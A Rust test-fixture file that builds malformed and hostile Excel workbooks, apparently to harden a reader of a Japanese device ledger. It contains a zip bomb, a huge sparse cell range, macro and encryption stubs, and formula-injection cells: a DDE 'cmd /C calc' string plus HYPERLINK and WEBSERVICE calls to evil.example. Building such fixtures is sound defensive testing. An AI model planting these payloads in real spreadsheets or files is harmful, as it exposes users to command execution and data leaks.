//! Files that are broken, or made to break a reader. All are made here; none is a real one.

use std::io::{Cursor, Write};
use zip::write::{SimpleFileOptions, ZipWriter};

const TYPES: &str = r#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>"#;
const RELS: &str = r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#;
const BOOK: &str = r#"<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="台帳" sheetId="1" r:id="rId1"/></sheets></workbook>"#;
const BOOK_RELS: &str = r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#;

/// A workbook of one sheet; `rows` is its XML, `types` its content types, `blank` that many spaces more in the sheet.
fn packed(rows: &str, types: &str, more: &[(&str, &[u8])], blank: usize) -> Vec<u8> {
    let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default();
    let mut part = |name: &str, bytes: &[u8]| {
        zip.start_file(name, options).unwrap();
        zip.write_all(bytes).unwrap();
    };
    part("[Content_Types].xml", types.as_bytes());
    part("_rels/.rels", RELS.as_bytes());
    part("xl/workbook.xml", BOOK.as_bytes());
    part("xl/_rels/workbook.xml.rels", BOOK_RELS.as_bytes());
    more.iter().for_each(|(name, bytes)| part(name, bytes));
    zip.start_file("xl/worksheets/sheet1.xml", options).unwrap();
    zip.write_all(br#"<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>"#).unwrap();
    zip.write_all(rows.as_bytes()).unwrap();
    let spaces = vec![b' '; 1 << 20];
    for _ in 0..blank >> 20 {
        zip.write_all(&spaces).unwrap();
    }
    zip.write_all(b"</sheetData></worksheet>").unwrap();
    zip.finish().unwrap().into_inner()
}

fn row(number: u32, cells: &[&str]) -> String {
    let cells: String =
        ('A'..='Z').zip(cells).map(|(column, cell)| cell.replace("@", &format!("{column}{number}"))).collect();
    format!("<row r=\"{number}\">{cells}</row>")
}

fn text(value: &str) -> String {
    format!("<c r=\"@\" t=\"inlineStr\"><is><t>{value}</t></is></c>")
}

fn ledger_rows() -> String {
    let head = [text("機器名"), text("IPアドレス")];
    let one = [text("受付PC"), text("10.0.0.1")];
    row(1, &head.each_ref().map(String::as_str)) + &row(2, &one.each_ref().map(String::as_str))
}

/// A sound workbook with one device.
pub(crate) fn workbook() -> Vec<u8> {
    packed(&ledger_rows(), TYPES, &[], 0)
}

/// Cells at both ends of the sheet and nothing else: 17 billion cells for who reads a dense range.
pub(crate) fn far_corners() -> Vec<u8> {
    let rows = r#"<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>"#;
    packed(rows, TYPES, &[], 0)
}

/// A few hundred kilobytes that become 320 MB.
pub(crate) fn bomb() -> Vec<u8> {
    packed(&ledger_rows(), TYPES, &[], 320 << 20)
}

/// Formulas of every dangerous kind; two of them never had a value.
pub(crate) fn formulas() -> Vec<u8> {
    let head = [text("機器名"), text("IPアドレス"), text("備考")];
    let one = [
        text("受付PC"),
        "<c r=\"@\" t=\"str\"><f>HYPERLINK(\"http://evil.example/\",\"10.0.0.1\")</f><v>10.0.0.1</v></c>".to_owned(),
        text("=cmd|' /C calc'!A0"),
    ];
    let two = [
        "<c r=\"@\"><f>WEBSERVICE(\"http://evil.example/\")</f></c>".to_owned(),
        "<c r=\"@\" t=\"e\"><f>1/0</f><v>#DIV/0!</v></c>".to_owned(),
    ];
    let rows = row(1, &head.each_ref().map(String::as_str))
        + &row(2, &one.each_ref().map(String::as_str))
        + &row(3, &two.each_ref().map(String::as_str));
    packed(&rows, TYPES, &[], 0)
}

/// A workbook with macros.
pub(crate) fn macros() -> Vec<u8> {
    let types = TYPES
        .replace("spreadsheetml.sheet.main", "ms-excel.sheet.macroEnabled.main")
        .replace("openxmlformats-officedocument.ms-excel", "ms-excel");
    packed(&ledger_rows(), &types, &[("xl/vbaProject.bin", b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1")], 0)
}

/// What Excel writes when a workbook has a password: a compound file with the encrypted package inside.
pub(crate) fn locked() -> Vec<u8> {
    let mut out = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
    out.resize(512, 0);
    out.extend("EncryptedPackage".encode_utf16().flat_map(u16::to_le_bytes));
    out.resize(1536, 0);
    out
}
